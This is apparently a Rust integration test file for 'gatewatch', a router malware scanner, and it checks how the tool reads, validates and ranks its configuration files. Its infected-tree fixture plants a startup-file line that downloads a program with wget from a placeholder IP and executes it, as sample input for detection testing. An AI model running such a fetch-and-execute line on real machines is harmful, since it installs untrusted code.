//! The configuration file through the real program: which one is taken, what it changes, what is told where it is wrong,
//! and that nothing it hides is silent.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown};
use std::path::{Path, PathBuf};
use std::process::Command;

use scan::{GATEWATCH, Log, Ran, Tree, need_root, run};
use serde_json::Value;

/// A tree whose startup file fetches a program and runs it.
fn infected() -> Tree {
    Tree::new().file("etc/rc.local", "cd /tmp; wget http://203.0.113.1/x; chmod +x x; ./x\n")
}

/// A file that only its owner can write to.
fn written(place: &Tree, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
    let path = place.path().join(name);
    fs::write(&path, text).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    path
}

/// A scan of an infected tree by one check, with a configuration of this text.
fn look(text: &str, options: &[&str]) -> Ran {
    let (tree, place) = (infected(), Tree::new());
    let config = written(&place, "gatewatch.conf", text);
    let mut command = Command::new(GATEWATCH);
    command.args(["--only", "startup-dropper", "--root"]).arg(tree.path()).arg("--config").arg(config);
    run(command.args(options))
}

fn rows(ran: &Ran) -> Vec<Value> {
    scan::clean(&ran.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn summary(ran: &Ran) -> Value {
    rows(ran).pop().unwrap_or_else(|| panic!("{ran:?}"))
}

#[test]
fn both_ways_to_write_it_do_the_same() {
    let uci = "config gatewatch 'main'\n\toption format 'json'\n\toption device 'r1'\n\toption verbose '1'\n\
        \nconfig allow\n\toption check 'startup-dropper'\n\toption subject '/etc/rc.local'\n\toption reason 'ours'\n";
    let lines = "# ours\nformat = json\ndevice = r1\nverbose = yes\nallow = startup-dropper /etc/rc.local never ours\n";
    let told = [uci, lines].map(|text| {
        let ran = look(text, &[]);
        assert_eq!((ran.status, ran.stderr.as_str()), (0, ""), "{ran:?}");
        let mut rows = rows(&ran);
        rows.iter_mut().for_each(|row| row["elapsed_us"] = Value::Null);
        rows
    });
    assert_eq!(told[0], told[1]);
    let [allowed, check, summary] = &told[0][..] else { panic!("{told:?}") };
    assert_eq!((&allowed["type"], &allowed["reason"]), (&"allowed".into(), &"ours".into()), "{allowed}");
    assert_eq!(allowed["path"], "/etc/rc.local");
    assert_eq!((&check["looked"], &check["findings"]), (&"yes".into(), &0.into()), "{check}");
    assert_eq!((&summary["allowed"], &summary["device"]), (&1.into(), &"r1".into()), "{summary}");
    assert_eq!((&summary["verdict"], &summary["infected"]), (&"clean".into(), &0.into()), "{summary}");
}

#[test]
fn the_command_line_stands_before_it() {
    let ran = look("format = text\ndevice = r1\nquiet = on\n", &["--format", "json", "--device", "r2"]);
    assert_eq!(summary(&ran)["device"], "r2");
    let allow = "allow = startup-dropper /etc/rc.local never ours\n";
    let ran = look(allow, &["--format", "json", "--allow", "startup-dropper /etc/rc.loca never x"]);
    assert_eq!((ran.status, &summary(&ran)["allowed"]), (2, &Value::Null), "{ran:?}");
}

#[test]
fn what_is_wrong_is_told_with_its_line_and_nothing_is_done() {
    let many = "allow = exe-volatile /opt/x never x\n".repeat(65);
    let large = format!("#{}\n", "x".repeat(70_000));
    for (text, expected) in [
        ("\nfrmat = json\n", ":2: unknown key \"frmat\": format is one"),
        ("colour = blue\n", ":1: unknown key \"colour\": use format, output, min_severity, syslog, "),
        ("root = /\n", ":1: unknown key \"root\": "),
        ("format = xml\n", ":1: format \"xml\": use text, json, nagios, prom or cef"),
        ("timeout = 0\n", ":1: timeout: use seconds from 1 to 86400"),
        ("device = a/b\n", ":1: device \"a/b\": use 1 to 64 letters"),
        ("skip = exe-delete\n", ":1: unknown check \"exe-delete\": gatewatch list shows them"),
        ("quiet = perhaps\n", ":1: \"perhaps\": use 1 or 0, yes or no, on or off"),
        ("timeout = 5\n\ntimeout = 6\n", ":3: timeout stands on line 1 too: keep one"),
        ("format json\n", ":1: write key = value"),
        ("allow = exe-volatile * never x\n", ":1: allow: subject: give at least four characters"),
        ("allow = exe-volatile /opt/x never\n", ":1: allow: reason: say why"),
        ("allow = exe-volatile /opt/x\n", ":1: allow \"exe-volatile /opt/x\": write CHECK SUBJECT"),
        (&many, ":65: allow: at most 64 entries"),
        (&large, ": too large to be read whole"),
        ("\u{1b}[2J = 1\n", ":1: unknown key \"\\x1b[2J\": "),
        ("config gatewatch\n\toption formt json\n", ":2: unknown key \"formt\": format is one"),
        ("config gatewatch\n\toption format 'json\n", ":2: too long, or a quote that does not close"),
        ("config gatewatch\n\toption format json\nopton x y\n", ":3: use the words config, option and list"),
        ("dir =\n", ":1: dir: give a value, or leave the line out"),
        ("config gatewatch\n\toption output ''\n", ":2: output: give a value, or leave the line out"),
        ("config gatewatch\n\nconfig foo\n", ":3: write options in a section: config gatewatch"),
        ("config gatewatch\n\nconfig allow\n", ":3: allow: name the check, the subject and the reason"),
        ("config gatewach\n\toption format json\n", ":1: write options in a section: config gatewatch"),
        (
            "config allow\n\toption check exe-volatile\n\toption subject /opt/x\n",
            ":1: allow: reason: say why",
        ),
    ] {
        let ran = look(text, &["--format", "json"]);
        assert_eq!((ran.status, ran.stdout.len()), (3, 0), "{text}: {ran:?}");
        assert!(ran.stderr.contains(&format!("gatewatch.conf{expected}")), "{text}: {}", ran.stderr);
        assert!(ran.stderr.ends_with("; gatewatch doctor checks the configuration\n"), "{}", ran.stderr);
        scan::clean(ran.stderr.as_bytes());
    }
    let ran = run(Command::new(GATEWATCH).args(["--config", "/nowhere/x.conf"]));
    assert_eq!((ran.status, ran.stdout.len()), (3, 0));
    assert!(ran.stderr.contains("/nowhere/x.conf: not found"), "{}", ran.stderr);
}

#[test]
fn what_is_allowed_is_counted_and_ends() {
    for (entry, status, allowed) in [
        ("startup-dropper /etc/rc.local 2999-12-31 ours", 0, Some(1)),
        // What a healthy router never does is allowed by its whole path only.
        ("startup-dropper /etc/* never ours", 2, None),
        ("startup-dropper /etc/rc.local 2026-01-01 it has expired", 2, None),
        ("startup-volatile /etc/rc.local never another check", 2, None),
    ] {
        let ran = look(&format!("allow = {entry}\n"), &["--format", "json"]);
        let summary = summary(&ran);
        assert_eq!((ran.status, summary["allowed"].as_u64()), (status, allowed), "{entry}: {summary}");
    }
    let expired = look("allow = startup-dropper /etc/rc.local 2026-01-01 x\n", &[]).stderr;
    assert_eq!(
        expired,
        "gatewatch: allow startup-dropper /etc/rc.local: has expired; its findings are told\n"
    );
    let text = look("allow = startup-dropper /etc/rc.local never it\\x07s ours\n", &["-v"]);
    let text = scan::clean(&text.stdout);
    assert!(text.starts_with("allowed: infected startup-dropper"), "{text}");
    assert!(text.contains("allowed because: it\\\\x07s ours"), "{text}");
    assert!(text.contains("0 infected, 0 suspicious, 0 notice; 1 allowed; "), "{text}");
}

#[test]
fn the_log_hears_of_what_was_left_out() {
    let (tree, place, log) = (infected(), Tree::new(), Log::new());
    let text = "allow = startup-dropper /etc/rc.local never x\nonly = startup-dropper, exe-deleted\nskip = exe-deleted\n";
    // Blanks belong to no id.
    let refused = written(&place, "blank.conf", text);
    let config = written(&place, "gatewatch.conf", text.replace(", ", ","));
    let mut command = Command::new(GATEWATCH);
    let ran = run(command.arg("--root").arg(tree.path()).arg("--config").arg(config).arg(log.option()));
    assert_eq!(ran.status, 0, "{ran:?}");
    let lines: Vec<String> = log.lines().into_iter().map(|line| String::from_utf8(line).unwrap()).collect();
    let [closing] = &lines[..] else { panic!("{lines:?}") };
    assert!(closing.contains(" verdict=clean ") && closing.contains(" checks=1 "), "{closing}");
    let skipped = gatewatch::checks::ALL.len() - 1;
    assert!(closing.contains(&format!(" allowed=1 skipped={skipped}")), "{closing}");
    let ran = run(Command::new(GATEWATCH).arg("--config").arg(refused));
    assert!(ran.stderr.contains("unknown check \" exe-deleted\""), "{}", ran.stderr);
}

/// Runs a script where `/etc` is empty but for what the script puts there; `$0` is gatewatch, `$1` a scratch directory.
fn on_a_machine(script: &str, place: &Tree) -> Ran {
    need_root();
    let script = format!("mount -t tmpfs none /etc && mkdir /etc/config /etc/gatewatch || exit 9\n{script}");
    run(Command::new("unshare").args(["-m", "sh", "-c", &script, GATEWATCH]).arg(place.path()))
}

#[test]
fn which_file_is_taken() {
    let place = Tree::healthy();
    let scan = "\"$0\" --only self-tampered";
    let json = |ran: &Ran| ran.stdout.starts_with(b"{");
    let uci = "printf 'config gatewatch\\n\\toption format json\\n' >/etc/config/gatewatch";
    let conf = "echo 'format = json' >/etc/gatewatch/gatewatch.conf";
    for (script, expected) in [
        (format!("{uci}; {scan}"), true),
        (format!("{conf}; {scan}"), true),
        (format!("{conf}; mkdir /etc/other; {scan} --dir /etc/other"), false),
        (format!("{uci}; {scan} --no-config"), false),
        (format!("{uci}; {scan} --root \"$1\""), false),
        (format!("{uci}; echo 'quiet = 1' >/etc/x; {scan} --config /etc/x"), false),
        // The first one counts.
        (format!("{uci}; echo 'nonsense' >/etc/gatewatch/gatewatch.conf; {scan}"), true),
    ] {
        let ran = on_a_machine(&script, &place);
        assert_eq!(json(&ran), expected, "{script}: {ran:?}");
        assert_eq!(ran.stderr, "", "{script}");
    }
    // A tree may hold what it likes.
    let tree = Tree::healthy().file("etc/config/gatewatch", "nonsense");
    let ran =
        run(Command::new(GATEWATCH).args(["-v", "--only", "startup-dropper", "--root"]).arg(tree.path()));
    assert_eq!((ran.status, ran.stderr.as_str()), (0, ""), "{ran:?}");
}

#[test]
fn a_file_that_others_can_write_to_does_not_count_and_is_told() {
    let place = Tree::new();
    let uci = "printf 'config gatewatch\\n\\toption only exe-volatile\\n' >/etc/config/gatewatch";
    for change in [
        "chmod 666 /etc/config/gatewatch",
        "chmod 664 /etc/config/gatewatch",
        "chown 1 /etc/config/gatewatch",
    ] {
        let ran =
            on_a_machine(&format!("{uci}; {change}; \"$0\" --only self-tampered --format json"), &place);
        assert_eq!(ran.status, 1, "{change}: {ran:?}");
        assert!(
            ran.stderr.contains("/etc/config/gatewatch: ") && ran.stderr.contains("it is not taken"),
            "{ran:?}"
        );
        let finding = &rows(&ran)[0];
        assert_eq!(
            (&finding["check"], &finding["path"]),
            (&"self-tampered".into(), &"/etc/config/gatewatch".into())
        );
    }
    // One that is named must be good.
    let config = written(&place, "x.conf", "quiet = 1\n");
    fs::set_permissions(&config, fs::Permissions::from_mode(0o646)).unwrap();
    let refused = |config: &Path| {
        let ran = run(Command::new(GATEWATCH).arg("--config").arg(config));
        assert_eq!((ran.status, ran.stdout.len()), (3, 0), "{ran:?}");
        ran.stderr
    };
    assert!(refused(&config).contains("x.conf: others can write to it: chmod 644"));
    fs::set_permissions(&config, fs::Permissions::from_mode(0o644)).unwrap();
    chown(&config, Some(12_345), None).unwrap();
    assert!(refused(&config).contains("x.conf: belongs to another user"));
    assert!(refused(Path::new("/dev/null")).contains("/dev/null: a device"));
    assert!(refused(place.path()).contains(": a directory"));
}

#[test]
fn the_other_commands_learn_from_it_where_things_are() {
    let place = Tree::new();
    let ours = "mkdir /etc/ours; printf 'dir = /etc/ours\nbaseline = /etc/ours/b.gwb\n' >/etc/gatewatch/gatewatch.conf";
    let ran = on_a_machine(&format!("{ours}; \"$0\" baseline verify"), &place);
    assert!(ran.stderr.contains("/etc/ours/b.gwb: not found"), "{ran:?}");
    let v1 = scan::intel("signed/v1.gwi");
    let key = scan::intel("signed/test.pub");
    let update = format!(
        "{ours}; mkdir /etc/ours/keys; cp {} /etc/ours/keys; \"$0\" intel update {} && ls /etc/ours/intel.d",
        key.display(),
        v1.display()
    );
    let ran = on_a_machine(&update, &place);
    assert_eq!((ran.status, ran.stdout.ends_with(b"indicators.gwi\n")), (0, true), "{ran:?}");
    let wrong = "echo 'dirr = /x' >/etc/gatewatch/gatewatch.conf; \"$0\" intel info /x";
    let ran = on_a_machine(wrong, &place);
    assert!(
        ran.status == 3 && ran.stderr.contains("gatewatch.conf:1: unknown key \"dirr\": dir is one"),
        "{ran:?}"
    );
}

#[test]
fn the_other_commands_read_the_file_that_a_scan_reads() {
    let place = Tree::new();
    let v1 = scan::intel("signed/v1.gwi");
    let v1 = v1.display();
    let unsigned = "echo 'allow_unsigned = 1' >/etc/gatewatch/gatewatch.conf";
    let beside = "mkdir /etc/other; echo 'baseline = /etc/other/b.gwb' >/etc/other/gatewatch.conf";
    for (script, status, expected) in [
        (format!("{unsigned}; \"$0\" intel verify {v1}"), 0, ""),
        (format!("{unsigned}; \"$0\" intel verify --no-config {v1}"), 1, "v1.gwi: "),
        (format!("echo 'allow_unsigned = 1' >/etc/x; \"$0\" intel verify --config /etc/x {v1}"), 0, ""),
        (format!("{unsigned}; \"$0\" intel update {v1}"), 1, "v1.gwi: "),
        (format!("{beside}; \"$0\" baseline verify --dir /etc/other"), 3, "/etc/other/b.gwb: not found"),
        (
            format!("{beside}; \"$0\" baseline verify --no-config --dir /etc/other"),
            3,
            "/etc/gatewatch/baseline",
        ),
        (
            format!("{beside}; \"$0\" baseline verify --config /etc/other/gatewatch.conf"),
            3,
            "/etc/other/b.gwb: ",
        ),
        (format!("{beside}; \"$0\" baseline create --config /nowhere"), 3, "/nowhere: not found"),
    ] {
        let ran = on_a_machine(&script, &place);
        assert_eq!(ran.status, status, "{script}: {ran:?}");
        assert!(ran.stderr.contains(expected), "{script}: {ran:?}");
    }
}

#[test]
fn who_may_not_read_the_file_looks_without_it() {
    let place = Tree::new();
    let script =
        "echo 'format = json' >/etc/gatewatch/gatewatch.conf; chmod 600 /etc/gatewatch/gatewatch.conf
        mount -t tmpfs none /mnt && cp \"$0\" /mnt/gatewatch && exec setpriv --reuid 65534 --clear-groups \
        /mnt/gatewatch --only self-tampered";
    let ran = on_a_machine(script, &place);
    assert!(!ran.stdout.is_empty() && ran.stdout[0] != b'{', "{ran:?}");
    assert!(ran.stderr.contains("gatewatch.conf: permission denied; it is not taken"), "{ran:?}");
}

#[test]
fn the_examples_are_taken() {
    let place = Tree::new();
    let packaging = Path::new(env!("CARGO_MANIFEST_DIR")).join("packaging");
    let mut tried = 0;
    for entry in fs::read_dir(packaging).unwrap().map(|entry| entry.unwrap().path()) {
        let Some("conf" | "config") = entry.extension().and_then(|kind| kind.to_str()) else { continue };
        let text = fs::read_to_string(&entry).unwrap();
        // As they are, and with everything in them.
        let all = text.lines().map(|line| {
            let bare = line.trim_start().trim_start_matches('#');
            let prose = line.trim_start().starts_with("# ");
            if prose { String::new() } else { bare.to_owned() }
        });
        let log = Log::new();
        for text in [text.clone(), all.collect::<Vec<_>>().join("\n")] {
            let config = written(&place, "example", text);
            let mut command = Command::new(GATEWATCH);
            command.args(["doctor", "--format", "json", "--only", "self-tampered", "--no-color"]);
            let ran = run(command.arg(log.option()).arg("--config").arg(config));
            let first = &rows(&ran)[0];
            assert_eq!(
                (&first["topic"], &first["state"]),
                (&"configuration".into(), &"ok".into()),
                "{first}"
            );
            tried += 1;
        }
        log.lines();
    }
    assert_eq!(tried, 4);
}
